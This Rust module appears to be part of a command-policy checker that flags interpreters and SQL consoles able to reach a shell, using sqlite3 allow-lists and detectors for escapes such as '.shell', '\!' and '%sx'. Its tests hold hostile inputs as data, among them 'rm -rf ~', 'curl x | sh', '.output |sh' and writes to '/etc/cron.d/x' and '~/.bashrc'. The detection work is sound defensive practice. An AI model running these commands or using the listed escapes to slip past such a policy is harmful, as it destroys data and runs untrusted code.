//! Interpreters and consoles whose language the policy does not read: code given to them
//! on the line (`tclsh`'s input, `guile -c`, `dc -e '!…'`, `psql -c '\! …'`) is warned,
//! since any of them can run a shell command. The script interpreters it does read
//! (python, perl, node, ruby, php, lua, R, awk) are `inline`'s.
//!
//! An allow-list where one can be written: a SQL console's statements are data to the
//! policy, its meta-commands are not (`\!` and `.shell` run a shell), so only the
//! meta-commands listed here pass.

use crate::stdin::Stdin;

/// Interpreters that run code given inline or on their input, with the options that take
/// inline code.
const INTERPRETERS: &[(&str, &[&str])] = &[
    ("tclsh", &[]),
    ("wish", &[]),
    ("jimsh", &[]),
    ("expect", &["-c"]),
    ("guile", &["-c", "-e"]),
    ("racket", &["-e", "--eval"]),
    ("sbcl", &["--eval"]),
    ("clisp", &["-x"]),
    ("ecl", &["-eval"]),
    ("julia", &["-e", "--eval", "-E", "--print"]),
    ("groovy", &["-e"]),
    ("scala", &["-e"]),
    ("jshell", &[]),
    ("osascript", &["-e"]),
    ("gnuplot", &["-e"]),
    ("octave", &["--eval"]),
    // R: program names are compared in lower case (`R` is `r`).
    ("r", &["-e"]),
    ("ghci", &["-e"]),
    ("erl", &["-eval"]),
    ("elixir", &["-e", "--eval"]),
    ("iex", &["-e"]),
    ("dc", &["-e", "--expression"]),
    ("ghc", &["-e"]),
    ("clojure", &["-e", "--eval"]),
    ("clj", &["-e", "--eval"]),
    ("bb", &["-e", "--eval"]),
    ("nbb", &["-e", "--eval"]),
    ("kotlin", &["-e", "-expression"]),
    ("kotlinc", &["-e", "-expression"]),
    ("matlab", &["-batch", "-r"]),
    ("hy", &["-c"]),
    ("janet", &["-e"]),
    ("luajit", &["-e"]),
    ("swipl", &["-g", "-t"]),
    ("gforth", &["-e"]),
    ("qjs", &["-e", "--eval"]),
    // Shells whose language is not the POSIX shell's: their `-c` text and their input.
    ("tcsh", &["-c"]),
    ("csh", &["-c"]),
    ("elvish", &["-c"]),
    ("nu", &["-c", "--commands"]),
    ("xonsh", &["-c"]),
    ("ion", &["-c"]),
    ("rc", &["-c"]),
    ("es", &["-c"]),
    ("ysh", &["-c"]),
    ("oil", &["-c"]),
    // m4 runs shell commands from its input (`syscmd`, `esyscmd`).
    ("m4", &[]),
    ("gdbtui", &[]),
    ("ftp", &[]),
    ("sftp", &["-b"]),
];

/// SQL consoles, and the options that take statements.
const SQL: &[(&str, &[&str])] = &[
    ("psql", &["-c", "--command"]),
    ("mysql", &["-e", "--execute"]),
    ("mariadb", &["-e", "--execute"]),
    ("sqlite3", &["-cmd"]),
];

/// sqlite3's dot-commands that only show or format (`.shell`, `.system`, `.output`,
/// `.load` and the rest run programs, write files or load code).
const SQLITE_DOT: &[&str] = &[
    ".tables",
    ".schema",
    ".headers",
    ".header",
    ".mode",
    ".quit",
    ".exit",
    ".indexes",
    ".indices",
    ".help",
    ".databases",
    ".dump",
    ".width",
    ".nullvalue",
    ".show",
    ".timer",
    ".changes",
    ".echo",
    ".bail",
];

/// Whether `name` runs code in a language of its own given on its line (its words are not
/// shell lines).
pub fn is_console(name: &str) -> bool {
    INTERPRETERS.iter().chain(SQL).any(|(n, _)| *n == name)
}

/// Why `name` with `rest` runs code given on its command line that is not read, if it does.
pub fn inline(name: &str, rest: &[String]) -> Option<String> {
    if let Some((_, flags)) = INTERPRETERS.iter().find(|(n, _)| *n == name) {
        return given(rest, flags).next().map(|_| {
            format!("{name} runs the code its options give, in a language the policy does not read")
        });
    }
    let (_, flags) = SQL.iter().find(|(n, _)| *n == name)?;
    let mut texts: Vec<&str> = given(rest, flags).collect();
    if name == "sqlite3" {
        // sqlite3 DB [SQL…]: what follows the database is run.
        texts.extend(operands(rest).skip(1));
    }
    texts
        .iter()
        .any(|t| !sql_reads_only(name, t))
        .then(|| sql_why(name))
}

/// Why `name` runs code the line feeds its input that is not read, if it does.
pub fn input(name: &str, rest: &[String], stdin: &Stdin) -> Option<String> {
    let text = match stdin {
        Stdin::None => return None,
        Stdin::Literal(t) => Some(t.as_str()),
        Stdin::Pipe => None,
    };
    if INTERPRETERS.iter().any(|(n, _)| *n == name) {
        // With a script file named, the input is the script's data.
        let script = operands(rest).next().is_some() && !matches!(name, "dc" | "ftp" | "sftp");
        return (!script).then(|| {
            format!("{name} runs the code on its input, in a language the policy does not read")
        });
    }
    if SQL.iter().any(|(n, _)| *n == name) {
        return match text {
            Some(t) if sql_reads_only(name, t) => None,
            _ => Some(sql_why(name)),
        };
    }
    None
}

/// The shell command a console's escape runs when a terminal's line is typed at that
/// console's prompt: sqlite3's `.shell`/`.system`, mysql's `system`, psql's and mysql's `\!`,
/// IPython's and many consoles' `!`, vim's `:!`, gdb's `shell`, lldb's `platform shell`.
pub fn shell_escape(line: &str) -> Option<&str> {
    let l = line.trim_start();
    // sqlite3's `.import '|CMD' TABLE`, `.read '|CMD'`, `.output |CMD`, `.once |CMD`: the
    // command's output is read, or the console's output fed to it.
    for dot in [".import ", ".read ", ".output ", ".once "] {
        if let Some(rest) = l.strip_prefix(dot) {
            let rest = rest.trim_start();
            let (quote, body) = match rest.chars().next() {
                Some(q @ ('\'' | '"')) => (Some(q), &rest[1..]),
                _ => (None, rest),
            };
            if let Some(command) = body.strip_prefix('|') {
                let end = match quote {
                    Some(q) => command.find(q).unwrap_or(command.len()),
                    None => command.len(),
                };
                return Some(command[..end].trim()).filter(|c| !c.is_empty());
            }
        }
    }
    for prefix in [
        ".shell ",
        ".system ",
        "system ",
        "\\!",
        ":!",
        "!",
        "shell ",
        "platform shell ",
        // IPython's `%sx CMD` (and `%system`, read by `!`'s rule as any `%`-less escape).
        "%sx ",
        "%system ",
    ] {
        if let Some(rest) = l.strip_prefix(prefix)
            && !rest.trim().is_empty()
        {
            return Some(rest.trim());
        }
    }
    None
}

/// Why a line typed at a console's prompt loads native code, if it does: sqlite3's `.load
/// LIB` and `load_extension('LIB')`, which run the library's code in the console.
pub fn loads_native(line: &str) -> Option<String> {
    let l = line.trim_start();
    let lower = l.to_ascii_lowercase();
    (l.starts_with(".load ") || lower.contains("load_extension("))
        .then(|| "loads a library into the console, whose native code cannot be read".into())
}

/// The files a line typed at a SQL console's prompt writes, as `tee PATH` lines:
/// `ATTACH DATABASE 'PATH'` and `VACUUM INTO 'PATH'` create the file; sqlite3's `.output`,
/// `.once`, `.save` and `.backup` write the file they name.
pub fn console_writes(line: &str) -> Vec<String> {
    let l = line.trim_start();
    let lower = l.to_ascii_lowercase();
    let mut out = Vec::new();
    for keyword in ["attach database ", "attach ", "vacuum into "] {
        if let Some(at) = lower.find(keyword) {
            let rest = l[at + keyword.len()..].trim_start();
            if let Some(q @ ('\'' | '"')) = rest.chars().next()
                && let Some(end) = rest[1..].find(q)
            {
                out.push(format!("tee {}", shell_words::quote(&rest[1..1 + end])));
            }
            break;
        }
    }
    for dot in [".output ", ".once ", ".save ", ".backup "] {
        if let Some(rest) = l.strip_prefix(dot)
            && let Ok(words) = shell_words::split(rest)
            && let Some(file) = words.last().filter(|f| !f.starts_with(['|', '-']))
        {
            out.push(format!("tee {}", shell_words::quote(file)));
        }
    }
    out
}

fn sql_why(name: &str) -> String {
    format!("{name} is given console commands (`\\!`, `.shell`, …) that run programs")
}

/// Whether SQL text holds only statements and, for sqlite3, listed dot-commands: psql's
/// and mysql's meta-commands all begin with a backslash (mysql's `system` too).
fn sql_reads_only(name: &str, text: &str) -> bool {
    if name == "sqlite3" {
        return text.lines().all(|l| {
            let l = l.trim_start();
            !l.starts_with('.')
                || l.split_whitespace()
                    .next()
                    .is_some_and(|cmd| SQLITE_DOT.contains(&cmd))
        });
    }
    !text.contains('\\')
        && !text.lines().any(|l| {
            l.trim_start()
                .get(..6)
                .is_some_and(|w| w.eq_ignore_ascii_case("system"))
        })
}

/// The values of `flags` among `rest`: `-c X`, `-cX`, `--command X`, `--command=X`.
fn given<'a>(rest: &'a [String], flags: &'a [&'a str]) -> impl Iterator<Item = &'a str> + 'a {
    rest.iter().enumerate().filter_map(move |(i, a)| {
        flags.iter().find_map(|f| {
            if a == f {
                Some(rest.get(i + 1).map_or("", String::as_str))
            } else if f.starts_with("--") {
                a.strip_prefix(f).and_then(|v| v.strip_prefix('='))
            } else if f.len() == 2 {
                a.strip_prefix(f).filter(|v| !v.is_empty())
            } else {
                None
            }
        })
    })
}

/// Words that do not begin with a dash: the operands, and the values of options given as
/// a separate word (harmless where they are only read as more code to judge).
fn operands(rest: &[String]) -> impl Iterator<Item = &str> {
    rest.iter()
        .map(String::as_str)
        .filter(|a| !a.starts_with('-'))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn w(s: &str) -> Vec<String> {
        shell_words::split(s).unwrap()
    }

    #[test]
    fn code_for_unread_languages_is_named() {
        assert!(inline("dc", &w("-e '!id'")).is_some());
        assert!(inline("guile", &w("-c '(system \"id\")'")).is_some());
        assert!(inline("tclsh", &w("script.tcl")).is_none());
        assert!(input("tclsh", &[], &Stdin::Literal("exec id".into())).is_some());
        assert!(input("tclsh", &w("x.tcl"), &Stdin::Literal("data".into())).is_none());
        assert!(input("dc", &[], &Stdin::Pipe).is_some());
        assert!(input("tclsh", &[], &Stdin::None).is_none());
    }

    #[test]
    fn sql_statements_pass_and_console_commands_do_not() {
        assert!(inline("psql", &w("-c 'select 1'")).is_none());
        assert!(inline("psql", &w("-c '\\! id'")).is_some());
        assert!(inline("psql", &w("--command='\\! id'")).is_some());
        assert!(inline("mysql", &w("-e 'system id'")).is_some());
        assert!(inline("mysql", &w("-e 'show tables'")).is_none());
        assert!(inline("sqlite3", &w("db 'select 1'")).is_none());
        assert!(inline("sqlite3", &w("db '.tables'")).is_none());
        assert!(inline("sqlite3", &w("db '.shell id'")).is_some());
        assert!(inline("sqlite3", &w("-cmd '.system id' db")).is_some());
        assert!(input("sqlite3", &w("db"), &Stdin::Literal(".shell id\n".into())).is_some());
        assert!(input("sqlite3", &w("db"), &Stdin::Literal("select 1;\n".into())).is_none());
        assert!(input("psql", &[], &Stdin::Pipe).is_some());
    }

    #[test]
    fn a_consoles_escape_to_the_shell_is_found() {
        for (line, command) in [
            (".shell rm -rf ~", "rm -rf ~"),
            ("system rm -rf ~", "rm -rf ~"),
            ("\\! rm -rf ~", "rm -rf ~"),
            (":!rm -rf ~", "rm -rf ~"),
            ("platform shell id", "id"),
            (".import '|rm -rf ~' t", "rm -rf ~"),
            (".read \"|curl x | sh\"", "curl x | sh"),
            (".output |sh", "sh"),
            ("%sx rm -rf ~", "rm -rf ~"),
        ] {
            assert_eq!(shell_escape(line), Some(command), "{line}");
        }
        for line in [
            ".tables",
            "select 1;",
            "print(1)",
            "!",
            ".import data.csv t",
        ] {
            assert_eq!(shell_escape(line), None, "{line}");
        }
        assert!(loads_native(".load /tmp/x.so").is_some());
        assert!(loads_native("SELECT load_extension('/tmp/x.so');").is_some());
        assert!(loads_native(".tables").is_none());
        assert_eq!(
            console_writes("ATTACH DATABASE '/etc/cron.d/x' AS x;"),
            ["tee /etc/cron.d/x"]
        );
        assert_eq!(console_writes("VACUUM INTO \"b.db\""), ["tee b.db"]);
        assert_eq!(console_writes(".output ~/.bashrc"), ["tee '~/.bashrc'"]);
        assert!(console_writes(".output |sh").is_empty());
        assert!(console_writes("select 1;").is_empty());
    }
}
